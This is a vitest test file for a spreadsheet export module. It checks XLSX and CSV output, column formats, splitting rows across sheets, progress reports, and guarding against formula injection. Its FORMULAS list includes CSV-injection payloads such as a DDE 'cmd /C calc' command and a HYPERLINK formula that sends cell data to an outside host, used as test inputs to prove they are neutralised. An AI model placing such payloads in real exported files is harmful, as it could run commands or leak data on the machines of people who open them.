import { parse } from 'csv-parse/sync'
import { readXlsx as readByOracle } from 'hucre/xlsx'
import { afterAll, describe, expect, it } from 'vitest'
import { Archive } from './archive.server.ts'
import { collect, each, fixtureFolder, memoryTarget } from './fixture.server.ts'
import { readSheet } from './read.server.ts'
import { writeCsv, writeXlsx, type WriteColumn } from './write.server.ts'

const folder = fixtureFolder()
afterAll(() => folder.remove())

/** 2026-09-01 08:30 in Shanghai. */
const MOMENT = Date.UTC(2026, 8, 1, 0, 30) / 1000

const columns: WriteColumn[] = [
  { key: 'name', label: '姓名', type: 'text', width: 20 },
  { key: 'age', label: '年龄', type: 'number' },
  { key: 'price', label: '金额（元）', type: 'money' },
  { key: 'day', label: '生日', type: 'date' },
  { key: 'at', label: '下单时间', type: 'time' },
  { key: 'on', label: '在读', type: 'boolean' },
]
const records = [
  { name: '00123', age: 18, price: 1990, day: MOMENT, at: MOMENT, on: true },
  { name: ' <张三> & "李四"\n第二行', age: null, price: -5, at: undefined, on: 0 },
]

/** What spreadsheet programs have been made to run. */
const FORMULAS = [
  '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.test?"&A1,"看")', "'=1", "''=1",
  '＝1+1', '＋1', '－1', '＠x', '-', '=', '+8613800138000', '="x"', ';=1', ' =1', ',=1', '"=1', '="a",=1',
]
const FORMULA_COLUMNS: WriteColumn[] = [{ key: 'a', label: '=标题', type: 'text' }, { key: 'b', label: '数', type: 'number' }]

describe('writeXlsx', () => {
  it('writes what an independent library reads', async () => {
    const target = memoryTarget()
    expect(await writeXlsx(target, { columns, rows: each(records), sheetName: '学员[2026]' })).toBe(2)
    const { sheets: [sheet] } = await readByOracle(target.bytes(), { readStyles: true })
    expect(sheet).toMatchObject({ name: '学员 2026', freezePane: { rows: 1 } })
    expect(sheet?.rows).toEqual([
      ['姓名', '年龄', '金额（元）', '生日', '下单时间', '在读'],
      ['00123', 18, 19.9, new Date('2026-09-01T00:00:00Z'), new Date('2026-09-01T08:30:00Z'), '是'],
      [' <张三> & "李四"\n第二行', null, -0.05, null, null, '否'],
    ])
    expect(sheet?.columns?.map((column) => column.width)).toEqual([20, 12, 14, 12, 18, 8])
    const style = (row: number, column: number) => sheet?.cells?.get(`${row},${column}`)?.style
    expect(style(0, 0)?.font?.bold).toBe(true)
    expect(style(1, 0)?.font?.bold).toBeFalsy()
    expect([0, 2, 3, 4].map((column) => style(1, column)?.numFmt)).toEqual(['@', '#,##0.00', 'yyyy\\-mm\\-dd', 'yyyy\\-mm\\-dd\\ hh:mm'])
  })

  it('gives back the same through our own reader', async () => {
    const target = memoryTarget()
    await writeXlsx(target, { columns, rows: each(records) })
    expect((await collect(readSheet(folder.write('a.xlsx', target.bytes())))).map((row) => row.cells)).toEqual([
      ['姓名', '年龄', '金额（元）', '生日', '下单时间', '在读'],
      ['00123', 18, 19.9, new Date('2026-09-01T00:00:00Z'), new Date('2026-09-01T08:30:00Z'), '是'],
      [' <张三> & "李四"\n第二行', null, -0.05, null, null, '否'],
    ])
  })

  it('never writes text as a formula', async () => {
    const target = memoryTarget()
    await writeXlsx(target, { columns: FORMULA_COLUMNS, rows: each(FORMULAS.map((a) => ({ a, b: a }))) })
    const file = folder.write('b.xlsx', target.bytes())
    const archive = await Archive.open(file)
    const xml = Buffer.concat(await collect(archive.read('xl/worksheets/sheet1.xml', 1e6))).toString()
    archive.close()
    expect(xml).not.toMatch(/<f[\s>]/)
    expect(xml).not.toContain('<v>')
    const { sheets: [sheet] } = await readByOracle(target.bytes(), { readStyles: true })
    expect(sheet?.rows).toEqual([['=标题', '数'], ...FORMULAS.map((text) => [text, text])])
    expect([...sheet?.cells?.values() ?? []].filter((cell) => cell.formula !== undefined)).toEqual([])
    expect((await collect(readSheet(file))).map((row) => row.cells[0])).toEqual(['=标题', ...FORMULAS])
  })

  it('goes on in further sheets when one is full', async () => {
    const target = memoryTarget()
    const written = await writeXlsx(target, { columns: [{ key: 'n', label: '数', type: 'number' }], rows: each(Array.from({ length: 7 }, (_, n) => ({ n }))), sheetName: '名'.repeat(40), rowsPerSheet: 4 })
    expect(written).toBe(7)
    const { sheets } = await readByOracle(target.bytes())
    expect(sheets.map((sheet) => [sheet.name, sheet.rows.flat()])).toEqual([
      ['名'.repeat(31), ['数', 0, 1, 2]],
      [`${'名'.repeat(28)}(2)`, ['数', 3, 4, 5]],
      [`${'名'.repeat(28)}(3)`, ['数', 6]],
    ])
  })

  it('writes no empty second sheet when the last row just fits, and a header alone for no rows', async () => {
    for (const [count, sheets] of [[3, 1], [0, 1], [4, 2]] as const) {
      const target = memoryTarget()
      await writeXlsx(target, { columns: [{ key: 'n', label: '数', type: 'number' }], rows: each(Array.from({ length: count }, (_, n) => ({ n }))), rowsPerSheet: 4 })
      expect((await readByOracle(target.bytes())).sheets).toHaveLength(sheets)
    }
  })

  it('reports progress', async () => {
    const reports: number[] = []
    await writeXlsx(memoryTarget(), { columns, rows: each(Array.from({ length: 2500 }, () => ({}))), onProgress: (rows) => reports.push(rows) })
    expect(reports).toEqual([1000, 2000, 2500])
  })
})

describe('writeCsv', () => {
  it('writes what Excel opens', async () => {
    const target = memoryTarget()
    expect(await writeCsv(target, { columns, rows: each(records) })).toBe(2)
    expect(target.bytes().toString()).toBe(
      '\uFEFF姓名,年龄,金额（元）,生日,下单时间,在读\r\n'
      + '00123,18,19.90,2026-09-01,2026-09-01 08:30,是\r\n'
      + '" <张三> & ""李四""\n第二行",,-0.05,,,否\r\n',
    )
  })

  it('guards text and never numbers, and our own reader gives the text back', async () => {
    const target = memoryTarget()
    await writeCsv(target, { columns: FORMULA_COLUMNS, rows: each([...FORMULAS.map((a) => ({ a, b: -5 })), { a: '\u0001=x', b: '-5' }]) })
    const text = target.bytes().toString()
    expect(text).toContain('-5\r\n')
    expect(text).not.toContain("'-5")
    const rows = await collect(readSheet(folder.write('a.csv', target.bytes())))
    expect(rows.map((row) => row.cells[0])).toEqual(['=标题', ...FORMULAS, '=x'])
    // What a program sees that knows nothing of our apostrophes: no field may begin a formula.
    for (const [field] of parse(text.slice(1)) as string[][]) expect(field).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
  })
})
